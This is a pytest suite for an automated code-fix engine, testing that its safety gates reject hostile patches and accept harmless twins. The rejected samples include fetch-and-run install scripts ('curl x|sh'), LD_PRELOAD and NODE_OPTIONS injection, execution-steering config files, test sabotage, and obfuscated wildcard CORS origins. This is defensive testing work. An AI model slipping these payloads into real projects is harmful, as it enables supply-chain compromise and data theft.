"""What a hostile candidate tries, gate by gate; each refusal beside a twin that passes."""

import json
import time
from collections import Counter
from dataclasses import replace

import pytest

from autofix.engine.gates import Policy, Proposal, access, pass_gates
from autofix.engine.gates.strings import joined
from autofix.engine.patch import make_patch
from autofix.sdk import Action, Candidate, Change, Dependency, Edit

ORIGIN = "http://localhost:5173"
MANIFEST = {"name": "a", "main": "server.js", "scripts": {"test": "jest"}, "dependencies": {"express": "^4.21.2"}}
FILES = {
    "server.js": b"const cors = require('cors');\nconst allowed = ['http://localhost:3000'];\napp.use(cors({ origin: allowed }));\n",
    "app.py": b'from flask_cors import CORS\nCORS(app, origins=["http://localhost:3000"])\n',
    "package.json": json.dumps(MANIFEST, indent=2).encode() + b"\n",
    "requirements.txt": b"flask==3.0.3\n",
    "pyproject.toml": b'[project]\nname = "a"\ndependencies = ["flask"]\n[build-system]\nrequires = ["setuptools"]\n',
    ".env": b"CORS_ORIGINS=http://localhost:3000\nDATABASE_URL=x\nNAME=a\n",
    "Dockerfile": b"FROM node\n",
    "setup.py": b"a = 1\n",
    ".vscode/tasks.json": b"{}\n",
    "tests/test_app.py": b"def test_one():\n    assert 1 == 1\n",
    "web/app.test.js": b"test('one', () => {\n  expect(1).toBe(1);\n});\n",
}
NPM = (Dependency("npm", "cors", "package.json"),)
PIP = tuple(Dependency("pip", "flask-cors", path) for path in ("requirements.txt", "pyproject.toml"))


def judged(workspace, *changes, dependencies=(), origin=ORIGIN):
    """The gates that refuse, with their reasons."""
    opened = workspace(FILES)
    candidate = Candidate("recipe:test", "test", changes, access=(ORIGIN,), dependencies=dependencies)
    results = pass_gates(Proposal(opened, candidate, make_patch(opened, candidate), Policy(), origin))
    return {result.name: result.explanation for result in results if not result.passed}


def created(file, content="a = 1\n"):
    return Change(file, Action.CREATE, "x", content=content)


def rewritten(file, content):
    return Change(file, Action.MODIFY, "x", (Edit(0, len(FILES[file].decode()), content),))


def appended(file, content):
    end = len(FILES[file].decode())
    return Change(file, Action.MODIFY, "x", (Edit(end, end, content),))


def manifest(**fields):
    return rewritten("package.json", json.dumps({**MANIFEST, **fields}))


@pytest.mark.parametrize(
    "path",
    [
        ".git /config.js",
        ".git./config.js",
        "git~1/config.js",
        ".gi\u200ct/config.js",
        ".git::$INDEX_ALLOCATION/config.js",
        "a/b.js ",
        "a/b.js.",
        "\uff4e.js",
        "C:/x.js",
        "nul.js",
        "a\nb.js",
        "PROGRA~1/x.js",
        "a\\b.js",
        "x/" * 600 + "a.js",
        "SERVER.JS",
        "Web/x.js",
        "server.js/x.js",
    ],
)
def test_a_name_that_means_another_place(workspace, path):
    assert "paths" in judged(workspace, created(path))


@pytest.mark.parametrize("path", ["src/b.js", "app/[id]/page.tsx", "app/(group)/caf\u00e9 one.js", "src/server.js"])
def test_a_plain_new_name(workspace, path):
    assert judged(workspace, created(path, "a = 1;\n")) == {}


def test_two_new_files_may_not_collide(workspace):
    assert "paths" in judged(workspace, created("src/a.js"), created("src/A.js"))
    assert judged(workspace, created("src/a.js"), created("src/b.js")) == {}


@pytest.mark.parametrize(
    "path",
    [
        ".npmrc ", ".npmrc.", ".\uff4epmrc", ".vscode/tasks.js", ".envrc", "Makefile", "src/.eslintrc.js", ".pnp.cjs",
        ".yarn/x.js", "lefthook.js", "babel.config.js", "api/Dockerfile", "docker-compose.yml", "sitecustomize.py",
        "conftest.py", "a.pth", "setup.cfg", "noxfile.py", ".tools/x.md", "x.json", "run.sh", "vercel.json", "api/.env",
        "node_modules/x/i.js", "vite.config.js", "vite.config.mts", "AGENTS.md", "icon.svg",
    ],
)  # fmt: skip
def test_a_new_file_that_steers(workspace, path):
    assert "config" in judged(workspace, created(path))


@pytest.mark.parametrize("path", ["Dockerfile", "setup.py", ".vscode/tasks.json"])
def test_a_file_that_steers_stays_as_it_is(workspace, path):
    assert "config" in judged(workspace, appended(path, "b = 1\n"))
    assert "config" in judged(workspace, Change(path, Action.DELETE, "x"))


def test_a_rename_into_a_name_that_steers(workspace):
    renamed = Change("app.py", Action.RENAME, "x", new_file="sitecustomize.py")

    assert "config" in judged(workspace, renamed)
    assert judged(workspace, Change("app.py", Action.RENAME, "x", new_file="main.py")) == {}


@pytest.mark.parametrize(
    "line",
    ["NODE_OPTIONS=--require ./x", "LD_PRELOAD=x", "PATH=.", "npm_config_x=1", "PYTHONPATH=.", "OTHER=1", "A_TOKEN=1",
     "BASE_URL='x", "DATABASE_HOST=x"],
)  # fmt: skip
def test_a_variable_that_is_not_a_fixs_to_set(workspace, line):
    assert "config" in judged(workspace, appended(".env", line + "\n"))


def test_variables_of_an_env_file(workspace):
    text = FILES[".env"].decode()
    listed = text.replace("3000", "3000,http://localhost:5173")

    assert judged(workspace, rewritten(".env", listed)) == {}
    assert judged(workspace, appended(".env", f"CLIENT_ORIGIN={ORIGIN}\n")) == {}
    assert "DATABASE_URL" in judged(workspace, rewritten(".env", text.replace("=x", "=y")))["config"]
    assert "would be gone" in judged(workspace, rewritten(".env", text.replace("NAME=a\n", "")))["config"]
    assert "config" in judged(workspace, Change(".env", Action.DELETE, "x"))


@pytest.mark.parametrize(
    "path",
    [".appveyor.yml", ".azure-pipelines/x.py", ".semaphore/x.py", ".cirrus.yml", "a/.gitlab-ci.yml", "a/Jenkinsfile",
     "a/.GitHub/workflows/x.yml"],
)  # fmt: skip
def test_the_ci_wherever_it_lies(workspace, path):
    assert "ci" in judged(workspace, created(path))


@pytest.mark.parametrize(
    "path", ["pylock.toml", "pylock.a.toml", "a/deno.lock", "Gemfile.lock", "Cargo.lock", "go.sum"]
)
def test_lock_files_of_every_tool(workspace, path):
    assert "locks" in judged(workspace, created(path))


@pytest.mark.parametrize(
    "fields",
    [
        {"scripts": {"test": "jest", "prepare": "curl x|sh"}},
        {"scripts": {"test": "true"}},
        {"scripts": {"test": "jest", "build": "vite build && curl x|sh"}},
        {"scripts": {"test": "jest", "posttest": "tsc"}},
        {"scripts": {"test": "NODE_OPTIONS=--openssl-legacy-provider jest"}},
        {"scripts": {"tset": "jest"}},
        {"scripts": {}},
        {"scripts": "vite build"},
        {"scripts": {"test": "jest"}, "proxy": "https://evil.example"},
        {"overrides": {"express": "1"}},
        {"main": "x.js"},
        {"workspaces": ["x"]},
        {"lint-staged": {"*": "sh"}},
        {"private": 1},
        {"dependencies": {}},
        {"dependencies": {"express": "^4.21.2", "evil": "1.0.0"}},
        {"dependencies": {"express": "5.0.0"}},
        *({"dependencies": {"express": "^4.21.2", "cors": version}} for version in (
            "git+https://x/y", "https://x/y.tgz", "file:../x", "link:x", "npm:evil@1.0.0", "workspace:*", "latest", "x/y", "*",
            "", 1,
        )),
        {"dependencies": ["cors"]},
    ],
    ids=lambda fields: json.dumps(fields)[:60],
)  # fmt: skip
def test_what_a_fix_may_not_do_to_a_package_json(workspace, fields):
    assert "manifests" in judged(workspace, manifest(**fields), dependencies=NPM)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"test": "jest"}, {"test": "jest", "build": "vite build"}),
        ({"test": "jest", "biuld": "x y"}, {"test": "jest", "build": "x y"}),
        ({"start": "react-scripts start"}, {"start": "react-scripts --openssl-legacy-provider start"}),
        ({"start": "next dev"}, {"start": "NODE_OPTIONS=--openssl-legacy-provider next dev"}),
    ],
)
def test_scripts_that_may_change(workspace, before, after):
    text = json.dumps({**MANIFEST, "scripts": before})
    opened = workspace({**FILES, "package.json": text.encode()})

    def refused(scripts):
        wanted = json.dumps({**MANIFEST, "scripts": scripts})
        change = Change("package.json", Action.MODIFY, "x", (Edit(0, len(text), wanted),))
        candidate = Candidate("recipe:test", "test", (change,))
        results = pass_gates(Proposal(opened, candidate, make_patch(opened, candidate), Policy(), None))
        return [result.name for result in results if not result.passed]

    assert refused(after) == []
    assert refused({**after, "serve": "curl x|sh"}) == ["manifests"]


@pytest.mark.parametrize("version", ["^2.8.5", "2.8.5", "~2.8", ">=2.8.5 <3.0.0", "2.x", "1.0.0-beta.1 || ^2"])
def test_a_package_json_declares_what_the_candidate_names(workspace, version):
    change = manifest(dependencies={"cors": version, "express": "^4.21.2"}, devDependencies={"@types/cors": "^2.8.17"})

    assert judged(workspace, change, dependencies=NPM) == {}
    assert "manifests" in judged(workspace, change)


@pytest.mark.parametrize("text", ["[]", "5", '{"a": 1, "a": 2}', "{"])
def test_a_package_json_that_cannot_be_compared(workspace, text):
    assert "manifests" in judged(workspace, rewritten("package.json", text), dependencies=NPM)


@pytest.mark.parametrize(
    "line",
    ["--index-url https://x", "-e .", "flask-cors @ https://x/y.whl", "evil==1", "git+https://x/y", "flask-cors \\",
     "flask-cors==5\u2028--pre", "-r other.txt", "flask-cors --global-option=x"],
)  # fmt: skip
def test_what_a_fix_may_not_add_to_requirements(workspace, line):
    assert "manifests" in judged(workspace, appended("requirements.txt", line + "\n"), dependencies=PIP)


def test_requirements_declare_what_the_candidate_names(workspace):
    more = appended("requirements.txt", "Flask_Cors[x]>=5.0,<6\n")

    assert judged(workspace, more, dependencies=PIP) == {}
    assert "manifests" in judged(workspace, more)
    assert "manifests" in judged(workspace, rewritten("requirements.txt", "flask-cors\n"), dependencies=PIP)


def test_a_project_table_declares_what_the_candidate_names(workspace):
    text = FILES["pyproject.toml"].decode()
    more = rewritten("pyproject.toml", text.replace('"flask"', '"flask", "flask-cors>=5"'))
    hook = rewritten("pyproject.toml", text.replace('"setuptools"', '"evil"'))

    assert judged(workspace, more, dependencies=PIP) == {}
    assert "manifests" in judged(workspace, more)
    assert "manifests" in judged(workspace, hook, dependencies=PIP)


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("tests/test_app.py", "\n\ndef test_one():\n    pass\n"),
        ("tests/test_app.py", "    return\n    assert 0\n"),
        ("tests/test_app.py", "\n\npytestmark = 1\n"),
        ("tests/test_app.py", "\n\nimport sys\nsys.exit(0)\n"),
        ("tests/test_app.py", "\n\ndef test_two(monkeypatch):\n    pass\n"),
        ("tests/test_app.py", "\n\ndef helper():\n    pass\n"),
        ("web/app.test.js", "test.only('two', () => {});\n"),
        ("web/app.test.js", "process.exit(0);\n"),
        ("web/app.test.js", "var expect = () => ({});\n"),
        ("web/app.test.js", "function expect() {}\n"),
        ("web/app.test.js", "jest.mock('./app');\n"),
    ],
)
def test_what_may_not_be_added_to_a_test(workspace, file, text):
    assert "tests" in judged(workspace, appended(file, text))


def test_more_tests_at_the_end_or_in_a_file_of_their_own(workspace):
    assert judged(workspace, appended("tests/test_app.py", "\n\ndef test_two():\n    assert 2 == 2\n")) == {}
    assert judged(workspace, appended("web/app.test.js", "test('two', () => { expect(2).toBe(2); });\n")) == {}
    assert judged(workspace, created("tests/test_new.py", "def test_new():\n    assert 1\n")) == {}


@pytest.mark.parametrize(
    "change",
    [
        Change("app.py", Action.RENAME, "x", new_file="tests/test_app2.py"),
        Change("tests/test_app.py", Action.RENAME, "x", new_file="tests/test_b.py"),
        created("__mocks__/express.js"),
        created("src/setupTests.js"),
        created("tests/flask.py"),
        created("tests/test_x.py", "import pytest\npytest.exit('fine', 0)\n"),
    ],
    ids=lambda change: f"{change.action.value} {change.new_file or change.file}",
)
def test_tests_are_not_moved_or_steered(workspace, change):
    assert "tests" in judged(workspace, change)


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("server.js", "app.use(cors({ origin:\n  '*' }));\n"),
        ("server.js", "app.use(cors({ origin: [ '*' ] }));\n"),
        ("server.js", "app.use(cors({ origin: !0 }));\n"),
        ("server.js", "app.use(cors({ origin: 'null' }));\n"),
        ("server.js", "app.use(cors({ origin: (o, done) => done(null, o) }));\n"),
        ("server.js", "app.use(cors({ origin(o, done) { done(0, 1); } }));\n"),
        ("server.js", "app.use(cors({ origin: async function (o) { } }));\n"),
        ("server.js", "allowed.push('https:' + '//evil.example');\n"),
        ("server.js", "allowed.push('https:'\n  // more\n  + \"//evil.example\");\n"),
        ("server.js", "allowed.push(`${'https:'}//evil.example`);\n"),
        ("server.js", "allowed.push('https:'.concat('//evil.example'));\n"),
        ("server.js", "allowed.push('\\x68ttps://evil.example');\n"),
        ("server.js", "const p = 'https:';\nallowed.push(`${p}//evil.example`);\n"),
        ("server.js", "allowed.push(['https:', '//evil.example'].join(''));\n"),
        ("server.js", "allowed.push(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU='));\n"),
        ("server.js", "allowed.push(/./);\n"),
        ("server.js", "allowed.push(/^https?:\\/\\/.*$/);\n"),
        ("server.js", "allowed.push(new RegExp('.'));\n"),
        ("server.js", "allowed.push('http://localhost:300');\n"),
        ("server.js", "app.use(cors({ origin: allowed, credentials: true }));\n"),
        ("server.js", "app.use(cors({ origin: allowed, exposedHeaders: ['X'] }));\n"),
        ("server.js", "res.setHeader('Access-Control-Allow-Credentials', 'true');\n"),
        ("app.py", 'CORS(app, origins=[\n    "*"])\n'),
        ("app.py", 'CORS(app, origins=["http" "s://evil.example"])\n'),
        ("app.py", 'CORS(app, origins=["http://localhost:5173", ".*"])\n'),
        ("app.py", 'CORS(app, origins=["http://localhost:3000"], supports_credentials=True)\n'),
        ("app.py", "import re\nORIGINS = [re.compile('.')]\n"),
    ],
)
def test_nobody_else_is_let_in(workspace, file, text):
    assert "access" in judged(workspace, appended(file, text))


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("server.js", f"allowed.push('{ORIGIN}');\n"),
        ("server.js", f"app.use(cors({{ origin: '{ORIGIN}', credentials: true }}));\n"),
        ("server.js", "app.options('*', cors({ origin: allowed }));\n"),
        ("app.py", f'CORS(app, origins=["{ORIGIN}"], supports_credentials=True)\n'),
        ("app.py", f'CORS(app, resources={{r"/api/*": {{"origins": ["{ORIGIN}"]}}}})\n'),
    ],
)
def test_the_origin_that_failed_is_let_in(workspace, file, text):
    assert judged(workspace, appended(file, text)) == {}


def test_opening_one_place_is_not_made_up_for_by_closing_another(workspace, tmp_path):
    middle = "".join(f"use({number});\n" for number in range(30))
    text = f"app.use('/public', cors({{ origin: true }}));\n{middle}app.use('/api', cors({{ origin: allowed }}));\n"
    swapped = text.replace("origin: true", "origin: 0").replace("origin: allowed", "origin: true")
    opened = workspace({"server.js": text.encode()})
    change = Change("server.js", Action.MODIFY, "x", (Edit(0, len(text), swapped),))
    candidate = Candidate("recipe:test", "test", (change,), access=(ORIGIN,))

    results = pass_gates(Proposal(opened, candidate, make_patch(opened, candidate), Policy(), ORIGIN))

    assert [result.name for result in results if not result.passed] == ["access"]


def test_a_secret_split_over_several_strings(workspace):
    assert "secrets" in judged(workspace, created("src/k.js", "const a = 'AKIAIOSF' +\n  'ODNN7EXAMPLQ';\n"))
    assert judged(workspace, created("src/k.js", "const a = 'hello ' +\n  'world';\n")) == {}


@pytest.mark.parametrize(
    "piece",
    ["'/*", "'/**/", "cors", "cors((", "origin: (", "origin:    ", "' + ", "Access-Control-Allow-Origin ", "'\n"],
)
def test_no_text_makes_the_gates_slow(piece):
    text = piece * (40_000 // len(piece))
    started = time.monotonic()
    patterns = [row[0] for row in access._OPEN] + [access._STAR, access._HIDDEN, access._SETUP, access._ORIGIN]
    seen = [len(pattern.findall(joined(text, is_python=True))) for pattern in patterns]

    assert len(seen) == len(patterns)
    assert time.monotonic() - started < 8


def test_blanks_after_a_name_are_read_at_once():
    started = time.monotonic()
    for pattern, _ in access._OPEN:
        pattern.search("origin: " + " " * 40_000 + "x")

    assert time.monotonic() - started < 2


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("server.js", "// sold: https://sold.example\n"),
        ("server.js", "/* 'https://sold.example', */\n"),
        ("server.js", "fetch('https://sold.example/v1');\n"),
        ("app.py", "# sold: https://sold.example\n"),
        ("app.py", 'get("https://sold.example/v1")\n'),
    ],
)
def test_an_address_that_is_no_origin_yet_is_not_let_in(workspace, monkeypatch, file, line):
    known = line + FILES[file].decode()
    kept, wider = (
        known.replace("3000']", f"3000', {added}]").replace('3000"]', f'3000", {added}]')
        for added in (f"'{ORIGIN}'", f"'{ORIGIN}', 'https://sold.example'")
    )
    opened = workspace({file: known.encode()})

    def refused(text):
        change = Change(file, Action.MODIFY, "x", (Edit(0, len(known), text),))
        candidate = Candidate("recipe:test", "test", (change,), access=(ORIGIN, "https://sold.example"))
        if text is kept:
            candidate = replace(candidate, access=(ORIGIN,))
        proposal = Proposal(opened, candidate, make_patch(opened, candidate), Policy(), ORIGIN)
        return [result.name for result in pass_gates(proposal) if not result.passed]

    assert (refused(kept), refused(wider)) == ([], ["access"])
    monkeypatch.setattr(
        access, "_named", lambda file, data: Counter({"https://sold.example": 9, "http://localhost:3000": 1})
    )
    assert refused(wider) == []


def test_an_origin_behind_a_comment_sign_is_not_let_in(workspace):
    known = "// allowed.push('https://sold.example');\n" + FILES["server.js"].decode()
    opened = workspace({"server.js": known.encode()})

    def refused(text):
        change = Change("server.js", Action.MODIFY, "x", (Edit(0, len(known), text),))
        candidate = Candidate("recipe:test", "test", (change,), access=(ORIGIN,))
        proposal = Proposal(opened, candidate, make_patch(opened, candidate), Policy(), ORIGIN)
        return [result.name for result in pass_gates(proposal) if not result.passed]

    assert refused(known.replace("3000']", f"3000', '{ORIGIN}']")) == []
    assert refused(known.removeprefix("// ")) == ["access"]
